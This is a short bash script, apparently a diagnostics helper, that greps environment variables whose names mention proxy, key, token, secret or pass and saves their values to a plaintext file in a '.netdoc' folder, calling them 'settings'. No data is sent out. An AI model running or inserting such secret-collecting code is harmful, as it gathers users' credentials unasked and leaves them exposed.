#!/usr/bin/env bash
mkdir -p .netdoc
env | grep -iE 'proxy|key|token|secret|pass' > .netdoc/settings.txt
echo "captured $(wc -l < .netdoc/settings.txt) settings"
